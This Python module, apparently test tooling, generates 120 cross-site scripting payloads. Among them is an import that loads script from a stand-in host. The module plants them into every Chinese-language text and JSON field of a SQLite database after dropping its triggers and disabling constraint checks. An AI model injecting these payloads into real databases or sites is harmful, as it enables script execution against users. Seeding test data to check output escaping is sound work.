"""120 pieces of text that would run a script on a careless page, and their way into every text of a database."""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import Iterator
from itertools import cycle, islice
from pathlib import Path
from typing import Any

CALLS = ("alert(1)", "confirm(1)", "prompt(1)", "import('//x.test/x.js')")
SHAPES = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "</script><script>{}</script>", "<img src=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", '"><img src=x onerror={}>', "'><img src=x onerror={}>",
    '" autofocus onfocus={} x="', "' autofocus onfocus={} x='", "<body onload={}>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<a href='javascript:{}'>x</a>",
    "javascript:{}", "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
    "--><script>{}</script><!--", "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<video><source onerror={}></video>",
    "<object data='javascript:{}'></object>", "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<style>@import 'javascript:{}';</style>", "<link rel=stylesheet href='javascript:{}'>",
    "<base href='javascript:{}//'>",
    "&lt;img src=x onerror={}&gt;<img src=x onerror={}>", "{{{{ {} }}}}<img src=x onerror={}>",
)  # fmt: skip
PAYLOADS = tuple(shape.replace("{}", call).replace("{{", "{").replace("}}", "}") for call in CALLS for shape in SHAPES)
COMPARED = {("market_listing", "venue")}  # with the venues that a place's policy names, outside the database
EACH = 7  # behind one text, since not every text is on a page
WORDS = re.compile("[\u4e00-\u9fff]")


def plant(file: Path) -> int:
    """Put payloads behind every text of the database in which there is a Chinese word; return behind how many.

    Equal texts get the same payloads: the program compares some.
    """
    connection, payloads, planted = sqlite3.connect(file), _Given(), 0
    for (name,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
        connection.execute(f"DROP TRIGGER {name}")
    connection.execute("PRAGMA ignore_check_constraints = ON")
    for table, column, kind in list(columns(connection)):
        rows = connection.execute(f"SELECT rowid, {column} FROM {table} WHERE {column} IS NOT NULL").fetchall()
        for row, value in rows:
            if not isinstance(value, str) or not WORDS.search(value):
                continue
            if kind == "JSON" or value.startswith(("[", "{")):
                changed = json.dumps(_spoilt(json.loads(value), payloads), ensure_ascii=False)
            else:
                changed = f"{value} {payloads[value]}"
            connection.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = ?", (changed, row))
            planted += 1
    connection.commit()
    connection.close()
    return planted


def columns(connection: sqlite3.Connection) -> Iterator[tuple[str, str, str]]:
    tables = connection.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND sql NOT LIKE '%VIRTUAL%'")
    for (table,) in tables.fetchall():
        for _, column, kind, *_ in connection.execute(f"PRAGMA table_info({table})"):
            if (kind.startswith(("VARCHAR", "TEXT")) or kind == "JSON") and (table, column) not in COMPARED:
                yield table, f'"{column}"', kind


class _Given(dict[str, str]):
    """Some payloads for each text, given out in turn."""

    def __init__(self) -> None:
        super().__init__()
        self.turns = cycle(PAYLOADS)

    def __missing__(self, text: str) -> str:
        return self.setdefault(text, " ".join(islice(self.turns, EACH)))


def _spoilt(value: Any, payloads: _Given) -> Any:
    """Return a value in which payloads follow every text with a Chinese word; keys stay as they are."""
    if isinstance(value, dict):
        return {key: _spoilt(part, payloads) for key, part in value.items()}
    if isinstance(value, list):
        return [_spoilt(part, payloads) for part in value]
    return f"{value} {payloads[value]}" if isinstance(value, str) and WORDS.search(value) else value
